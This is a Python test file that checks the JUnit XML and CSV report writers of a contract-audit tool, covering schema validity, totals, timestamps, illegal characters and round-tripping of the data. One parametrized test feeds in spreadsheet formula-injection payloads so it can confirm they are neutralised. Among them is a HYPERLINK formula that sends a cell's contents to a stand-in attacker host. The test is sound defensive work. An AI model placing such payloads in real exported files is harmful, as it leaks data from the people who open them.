"""The JUnit and CSV reports as CI systems and spreadsheets read them (issue 16 item 6, issue 17).

JUnit: valid against Jenkins' JUnit schema (``schemas/jenkins-junit.xsd``, the xUnit plugin's
junit-10.xsd), totals on ``<testsuites>`` and each ``<testsuite>``, ``time`` and ``timestamp``,
waived findings as ``<skipped message="waived: <reason>">``, and well-formed XML whatever the
ids, file names and messages hold. CSV: read back with ``csv.DictReader`` it is the findings,
one row each (CR, LF, commas and quotes in them), with the cells a spreadsheet would run as
formulas neutralised (OWASP) and amounts with two decimals.

The audited workspace (the test kit's example contract: Premier p1 for LOB retail, 113 h a
quarter, overage agreed at USD 240/h), as of 2026-12-31T00:00:00Z:

  w1 2026-01-05 100 h, w2 2026-02-05 19 h   Q1 = 119 h > 113: w2 crosses it, 6 h over
  t2 P3 ticket, first response after 72 h (Premier P3: 48 h) -> 24 h over

Findings: billing.overage_unbilled w2 (6 h x USD 240 = USD 1,440.00), entitlement.quarterly_hours
w2 (waived by the waivers file in the CLI tests) and sla.response t2 (24 h = 86400 s).
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cso_policy.cli import main
from cso_policy.core.model import Finding, Impact, Level, duration_text
from cso_policy.core.rule import Rule
from cso_policy.reports import Report
from cso_policy.reports.csv import CSV_COLUMNS, NUMERIC_COLUMNS, neutralise, write_csv
from cso_policy.reports.junit import junit_timestamp, write_junit, xml_chars
from cso_policy.testing import EXAMPLE_CONTRACT_ID, EXAMPLE_LOB, Workspace

SCHEMA = Path(__file__).parent / "schemas" / "jenkins-junit.xsd"
AS_OF = "2026-12-31T00:00:00Z"
REASON = 'Q1 launch support <agreed> & "minuted"'
TICKET = {"kind": "ticket", "id": "t2", "lob": EXAMPLE_LOB, "severity": "P3", "channel": "web",
          "opened_at": "2026-03-02T09:00:00-05:00", "first_response_at": "2026-03-05T09:00:00-05:00",
          "resolved_at": "2026-03-05T10:00:00-05:00"}
RECORDS = [
    {"kind": "work", "id": "w1", "date": "2026-01-05", "lob": EXAMPLE_LOB, "hours": 100, "service": "general_account_consulting"},
    {"kind": "work", "id": "w2", "date": "2026-02-05", "lob": EXAMPLE_LOB, "hours": 19, "service": "general_account_consulting"},
    TICKET,
]
ISO_SECONDS = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d$")  # the Ant schema's ISO8601_DATETIME_PATTERN


@pytest.fixture
def kit(tmp_path) -> Workspace:
    ws = Workspace(tmp_path / "ws")
    ws.contract()
    ws.records(RECORDS)
    (tmp_path / "waivers.toml").write_text(
        "[[waiver]]\n"
        'rule = "entitlement.quarterly_hours"\n'
        f'contract = "{EXAMPLE_CONTRACT_ID}"\n'
        'record = "w2"\n'
        f"reason = {json.dumps(REASON)}\n"
        'approved_by = "finance@example.com"\n'
        "expires = 2026-12-31\n"
    )
    return ws


def cli(runner, kit: Workspace, fmt: str, *, waivers: bool = True):
    extra = ["--waivers", str(kit.root.parent / "waivers.toml")] if waivers else []
    result = runner.invoke(main, ["audit", "--contracts", str(kit.root / "contracts"),
                                  "--records", str(kit.root / "records" / "records.jsonl"),
                                  "--as-of", AS_OF, "--format", fmt, *extra])
    assert result.exit_code == 1, result.output  # two unwaived errors
    return result


def validate(xml: bytes | str) -> None:
    """Raise unless *xml* is valid against Jenkins' JUnit schema (lxml, of the test extra)."""
    from lxml import etree
    schema = etree.XMLSchema(etree.parse(str(SCHEMA)))
    document = etree.fromstring(xml.encode() if isinstance(xml, str) else xml)
    schema.assertValid(document)


def finding(n: int, *, rule="a.x", contract="C-1", record=None, source=None, message=None, waiver=None,
            impact=None, lob="a") -> Finding:
    return Finding(rule=rule, level=Level.ERROR, contract=contract, lob=lob, record=record or f"r{n}",
                   source=source or f"records/r.jsonl:{n}", message=message or f"finding {n}", clause="S1",
                   policy="p@1", impact=impact, waiver=waiver)


RULES = [Rule(id="a.x", title="A", clause="S", level=Level.ERROR), Rule(id="b.y", title="B", clause="S", level=Level.WARNING)]


def junit(findings, *, rules=RULES, contracts=(), as_of=None, elapsed=None) -> str:
    out = io.StringIO()
    # in contract order, as the writer is given them (not Finding.sort_key: it fails on a source
    # ending in ":²", since "²".isdigit())
    report = Report(findings=sorted(findings, key=lambda f: (f.contract or "", f.rule, f.record or "")),
                    rules=list(rules), contracts=list(contracts),
                    as_of=as_of, elapsed=elapsed)
    write_junit(report, out)
    return out.getvalue()


def check_totals(root: ET.Element) -> None:
    """Each suite's counts are its cases'; the <testsuites> totals are the suites'."""
    suites = root.findall("testsuite")
    for suite in suites:
        cases = suite.findall("testcase")
        assert suite.get("tests") == str(len(cases))
        assert suite.get("failures") == str(sum(1 for c in cases if c.find("failure") is not None))
        assert suite.get("skipped") == str(sum(1 for c in cases if c.find("skipped") is not None))
        assert suite.get("errors") == "0"
        assert not any(c.find("failure") is not None and c.find("skipped") is not None for c in cases)
    for key in ("tests", "failures", "errors"):
        assert root.get(key) == str(sum(int(s.get(key)) for s in suites)), key
    total = float(root.get("time"))
    assert abs(sum(float(s.get("time")) for s in suites) - total) <= 0.0005 * len(suites) + 1e-9


# ---------------------------------------------------------------- JUnit


def test_junit_of_a_real_audit_is_valid_against_the_jenkins_schema_with_totals_time_and_timestamp(runner, kit):
    xml = cli(runner, kit, "junit").stdout_bytes
    root = ET.fromstring(xml)
    check_totals(root)
    [suite] = root.findall("testsuite")
    assert suite.get("name") == EXAMPLE_CONTRACT_ID
    # C-1 fails the unbilled overage and the late response; the waived quarterly hours are skipped
    assert (root.get("failures"), suite.get("failures"), suite.get("skipped")) == ("2", "2", "1")
    assert suite.get("timestamp") == "2026-12-31T00:00:00"
    assert ISO_SECONDS.match(suite.get("timestamp"))
    assert float(root.get("time")) >= 0 and re.fullmatch(r"\d+\.\d{3}", root.get("time"))
    assert root.get("time") == suite.get("time")  # one suite: the whole audit
    validate(xml)


def test_junit_waived_findings_are_skipped_with_the_reason_and_fail_without_the_waiver(runner, kit):
    root = ET.fromstring(cli(runner, kit, "junit").stdout_bytes)
    case = root.find("testsuite/testcase[@name='entitlement.quarterly_hours']")
    assert case.find("failure") is None
    skipped = case.find("skipped")
    assert skipped.get("message") == f"waived: {REASON}"
    assert skipped.text.split(": ")[1:3] == ["warning", "w2"]
    failing = sorted(c.get("name") for c in root.iter("testcase") if c.find("failure") is not None)
    assert failing == ["billing.overage_unbilled", "sla.response"]

    unwaived = cli(runner, kit, "junit", waivers=False).stdout_bytes
    root = ET.fromstring(unwaived)
    check_totals(root)
    assert root.find("testsuite[@name='EX-2026']/testcase[@name='entitlement.quarterly_hours']/failure") is not None
    assert (root.get("failures"), root.find("testsuite").get("skipped")) == ("3", "0")
    validate(unwaived)


def test_junit_pairs_with_waived_and_unwaived_findings_fail_and_reasons_are_joined_once():
    waiver = {"reason": "agreed", "approved_by": "x@example.com"}
    xml = junit([finding(1, waiver=waiver), finding(2),  # a.x: one waived, one not -> fails with the unwaived one
                 finding(3, rule="b.y", waiver=waiver), finding(4, rule="b.y", waiver={"reason": "other"}),
                 finding(5, rule="b.y", waiver=waiver)], contracts=["C-1", "C-2"])
    root = ET.fromstring(xml)
    check_totals(root)
    c1 = root.find("testsuite[@name='C-1']")
    failure = c1.find("testcase[@name='a.x']/failure")
    assert failure.text == "records/r.jsonl:2: error: r2: finding 2"
    assert c1.find("testcase[@name='a.x']/skipped") is None
    skipped = c1.find("testcase[@name='b.y']/skipped")
    assert skipped.get("message") == "waived: agreed; other"
    assert len(skipped.text.splitlines()) == 3
    assert [(s.get("name"), s.get("tests"), s.get("failures"), s.get("skipped")) for s in root] == [
        ("C-1", "2", "1", "1"), ("C-2", "2", "0", "0")]
    validate(xml)


def test_junit_time_is_the_elapsed_time_shared_equally_and_zero_when_not_measured():
    findings = [finding(1), finding(2, contract="C-2"), finding(3, contract=None)]
    root = ET.fromstring(junit(findings, contracts=["C-1", "C-2"], elapsed=3.0))
    assert [s.get("name") for s in root] == ["-", "C-1", "C-2"]
    assert root.get("time") == "3.000"
    assert [s.get("time") for s in root] == ["1.000"] * 3
    check_totals(root)
    root = ET.fromstring(junit(findings, contracts=["C-1", "C-2"], elapsed=None))
    assert {root.get("time")} | {s.get("time") for s in root} == {"0.000"}
    validate(junit([], contracts=[], elapsed=None))  # no suites at all


@pytest.mark.parametrize(("as_of", "expected"), [
    (datetime(2026, 12, 31, tzinfo=timezone.utc), "2026-12-31T00:00:00"),
    (datetime(2026, 12, 31, 19, 0, 0, 987654, tzinfo=timezone(timedelta(hours=-5))), "2027-01-01T00:00:00"),
    (datetime(2026, 6, 1, 8, 30, 15, 500000), "2026-06-01T08:30:15"),  # naive: taken as UTC
])
def test_junit_timestamps_are_utc_to_the_second_without_an_offset(as_of, expected):
    assert junit_timestamp(as_of) == expected
    root = ET.fromstring(junit([finding(1)], as_of=as_of))
    assert [s.get("timestamp") for s in root] == [expected]
    assert ISO_SECONDS.match(expected)


def test_junit_without_as_of_has_no_timestamp():
    assert junit_timestamp(None) is None
    root = ET.fromstring(junit([finding(1)]))
    assert root.find("testsuite").get("timestamp") is None


EVIL = "C\x00-1\x0b\x1b\ufffe\uffff<&\"'>\udc80\x7f"


def test_junit_is_well_formed_with_characters_xml_does_not_allow_in_ids_and_file_names():
    message = "bad\x00 line\r\nwith\rCR\t<tab> & \"quotes\" ]]>\x0c\x1b"
    findings = [finding(1, contract=EVIL, record=f"rec{EVIL}", source=f"records/{EVIL}.jsonl:3", message=message,
                        rule=f"r{EVIL}", lob=EVIL),
                finding(2, contract=EVIL, rule="b.y", waiver={"reason": f"ok{EVIL}"})]
    xml = junit(findings, contracts=[EVIL], as_of=datetime(2026, 12, 31, tzinfo=timezone.utc), elapsed=1.0)
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding="utf-8", newline="")  # strict: a surrogate would fail here
    stream.write(xml)
    stream.flush()
    root = ET.fromstring(raw.getvalue())
    check_totals(root)
    clean = xml_chars(EVIL)
    assert clean == "C\ufffd-1\ufffd\ufffd\ufffd\ufffd<&\"'>\ufffd\x7f"
    [suite] = root.findall("testsuite")
    assert suite.get("name") == clean
    failure = suite.find("testcase/failure")
    assert failure.get("type") == f"r{clean}"
    assert failure.text == f"records/{clean}.jsonl:3: error: rec{clean}: {xml_chars(message)}"
    assert "\r" in failure.text  # kept as &#13;
    assert failure.get("message") == f"1 finding(s): {xml_chars(message)}"
    assert suite.find("testcase[@name='b.y']/skipped").get("message") == f"waived: ok{clean}"
    validate(raw.getvalue())


@settings(max_examples=150, deadline=None)
@given(contract=st.text(max_size=12), rule=st.text(min_size=1, max_size=12), message=st.text(max_size=40),
       source=st.text(max_size=20), reason=st.text(max_size=20))
def test_junit_is_well_formed_for_any_text(contract, rule, message, source, reason):
    findings = [finding(1, contract=contract or None, rule=rule, message=message or "m", source=source or "s"),
                finding(2, contract=contract or None, rule=rule + "~", waiver={"reason": reason})]
    root = ET.fromstring(junit(findings).encode("utf-8"))
    check_totals(root)
    failure = root.find(".//failure")
    assert failure.get("type") == xml_chars(rule)
    assert failure.text.endswith(xml_chars(message or "m"))
    assert root.find(".//skipped").get("message") == "waived: " + xml_chars(reason)


def test_junit_is_streamed_from_a_one_shot_iterator():
    findings = sorted([finding(n, contract=f"C-{n % 3}") for n in range(30)], key=Finding.sort_key)
    out = io.StringIO()
    write_junit(Report(findings=iter(findings), rules=RULES, contracts=["C-9"]), out)
    root = ET.fromstring(out.getvalue())
    assert [s.get("name") for s in root] == ["C-0", "C-1", "C-2", "C-9"]
    assert root.get("failures") == "3"
    check_totals(root)


# ---------------------------------------------------------------- CSV


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def csv_of(findings) -> str:
    out = io.StringIO(newline="")
    write_csv(Report(findings=list(findings), rules=[]), out)
    return out.getvalue()


def test_csv_of_a_real_audit_reads_back_as_the_findings_with_amounts_to_two_decimals(runner, kit):
    findings = json.loads(cli(runner, kit, "json").stdout)["findings"]
    rows = read_csv(cli(runner, kit, "csv").stdout)
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert len(rows) == len(findings) == 3
    for row, f in zip(rows, findings):
        for key in ("rule", "level", "contract", "lob", "record", "source", "clause", "policy", "message", "fingerprint"):
            assert row[key] == neutralise(f[key] or ""), key
        for key in ("hours", "amount", "duration_seconds"):
            assert (float(row[key]) if row[key] else None) == f["impact"].get(key), key
        assert row["waived"] == ("yes" if f["waiver"] else "")
    by_rule = {r["rule"]: r for r in rows}
    assert [(by_rule[r]["hours"], by_rule[r]["amount"], by_rule[r]["currency"])
            for r in ("billing.overage_unbilled", "entitlement.quarterly_hours")] == [("6.0", "1440.00", "USD")] * 2
    late = by_rule["sla.response"]
    assert (late["hours"], late["amount"], late["duration"], late["duration_seconds"]) == ("", "", "24 h", "86400.0")
    assert by_rule["entitlement.quarterly_hours"]["waiver_reason"] == REASON


def test_csv_one_row_per_finding_with_cr_lf_commas_and_quotes():
    messages = ["plain", "two\nlines", "carriage\rreturn", "crlf\r\ninside", 'a, "quoted", b', "trailing\r",
                "\n", ""]
    findings = [finding(n, message=m or " ") for n, m in enumerate(messages, 1)]
    text = csv_of(findings)
    assert text.endswith("\n") and not text.endswith("\r\n")
    rows = read_csv(text)
    assert [r["message"] for r in rows] == [f.message for f in findings]
    assert [r["record"] for r in rows] == [f.record for f in findings]
    assert len(list(csv.reader(io.StringIO(text, newline="")))) == len(findings) + 1


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-x", "@SUM(A1:A9)",
                                  "\tcmd", "\r=1+1", "=1+1"])
def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(cell):
    f = finding(1, contract=cell, record=cell, message=cell, lob=cell, waiver={"reason": cell})
    [row] = read_csv(csv_of([f]))
    for key in ("contract", "record", "message", "lob", "waiver_reason"):
        assert row[key] == "'" + cell, key
    assert neutralise(cell) == "'" + cell
    assert neutralise("fine = ok") == "fine = ok" and neutralise("") == ""


def test_csv_numeric_columns_stay_numbers_even_when_negative():
    f = finding(1, impact=Impact(hours=-2.5, amount=-600.0, currency="USD", duration_seconds=27000.0))
    g = finding(2, impact=Impact(hours=0.1 + 0.2, amount=1440, currency="EUR"))
    first, second = read_csv(csv_of([f, g]))
    assert (first["hours"], first["amount"], first["duration"], first["duration_seconds"]) == (
        "-2.5", "-600.00", "7 h 30 min", "27000.0")
    assert (second["hours"], second["amount"], second["currency"], second["duration"]) == ("0.3", "1440.00", "EUR", "")
    assert NUMERIC_COLUMNS == {"hours", "amount", "duration_seconds"}


@pytest.mark.parametrize(("seconds", "text"), [(27000, "7 h 30 min"), (4530, "1 h 15 min 30 s"), (0, "0 s"),
                                               (86400, "24 h"), (59.6, "1 min"), (-90, "-1 min 30 s")])
def test_csv_duration_reads_for_a_person(seconds, text):
    assert duration_text(seconds) == text


@settings(max_examples=150, deadline=None)
@given(message=st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40),
       record=st.text(alphabet=st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=12),
       amount=st.floats(min_value=-1e9, max_value=1e9, allow_nan=False))
def test_csv_round_trips_any_text(message, record, amount):
    findings = [finding(1, message=message or "m", record=record, impact=Impact(amount=amount, currency="USD")),
                finding(2)]
    rows = read_csv(csv_of(findings))
    assert len(rows) == 2
    assert rows[0]["message"] == neutralise(message or "m")
    assert rows[0]["record"] == neutralise(record)
    assert rows[0]["amount"] == f"{amount:.2f}"
    assert abs(float(rows[0]["amount"]) - amount) <= 0.005 + 1e-9 * abs(amount)
